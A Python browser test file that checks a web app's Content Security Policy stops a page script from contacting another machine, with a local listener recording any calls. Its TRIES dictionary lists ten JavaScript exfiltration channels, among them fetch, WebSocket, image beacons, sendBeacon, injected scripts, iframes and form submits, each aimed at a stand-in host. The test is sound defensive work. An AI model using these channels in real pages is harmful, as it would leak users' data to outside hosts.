"""What the browser itself refuses: a script on our page that wants to send what it sees to another machine."""

from __future__ import annotations

import socket
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

pytestmark = pytest.mark.browser
TRIES = {
    "fetch": "fetch(`http://${there}/`, {mode: 'no-cors'}).catch(() => 0)",
    "live connection": "new WebSocket(`ws://${there}/`)",
    "picture": "new Image().src = `http://${there}/a.png`",
    "beacon": "navigator.sendBeacon(`http://${there}/`, 'a')",
    "events": "new EventSource(`http://${there}/`)",
    "script": "document.head.append(Object.assign(document.createElement('script'), {src: `http://${there}/a.js`}))",
    "style": "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: `http://${there}/a`}))",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: `http://${there}/`}))",
    "form": "(() => { const f = document.createElement('form'); f.action = `http://${there}/`; f.target = '_blank';"
    " document.body.append(f); f.submit(); })()",
    "font": "new FontFace('a', `url(http://${there}/a.woff)`).load().catch(() => 0)",
}


@pytest.fixture
def outside():
    """Another machine, as the browser sees it; it notes who calls."""
    calls: list[bytes] = []
    door = socket.create_server(("127.0.0.1", 0))

    def note():
        while True:
            try:
                one, _ = door.accept()
            except OSError:
                return
            calls.append(one.recv(200))
            one.close()

    threading.Thread(target=note, daemon=True).start()
    yield calls, f"127.0.0.1:{door.getsockname()[1]}"
    door.close()


def test_no_script_on_the_page_can_send_what_it_sees_to_another_machine(app, chromium, outside):
    calls, there = outside
    page = chromium.new_context().new_page()
    page.goto(f"{app}/about")
    page.locator("h1").wait_for(timeout=30_000)
    page.evaluate(
        "() => { window.refused = []; document.addEventListener('securitypolicyviolation',"
        " event => window.refused.push(event.effectiveDirective)); }"
    )
    for way in TRIES.values():
        page.evaluate(f"there => {{ {way} }}", there)
    page.wait_for_timeout(1500)
    refused = page.evaluate("window.refused")
    assert calls == []
    assert len(refused) == len(TRIES), refused
    page.context.close()


def test_on_a_page_without_our_policy_the_same_script_would_send_it(chromium, outside):
    calls, there = outside
    with ThreadingHTTPServer(("127.0.0.1", 0), Bare) as bare:
        threading.Thread(target=bare.serve_forever, daemon=True).start()
        page = chromium.new_context().new_page()
        page.goto(f"http://127.0.0.1:{bare.server_port}/")
        for way in ("fetch", "live connection", "picture", "script"):
            page.evaluate(f"there => {{ {TRIES[way]} }}", there)
        page.wait_for_timeout(1000)
        page.context.close()
        bare.shutdown()
    assert len(calls) >= 4


class Bare(BaseHTTPRequestHandler):
    """A page that says nothing about what it may load."""

    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>bare</title>")

    def log_message(self, *_):
        """Say nothing."""
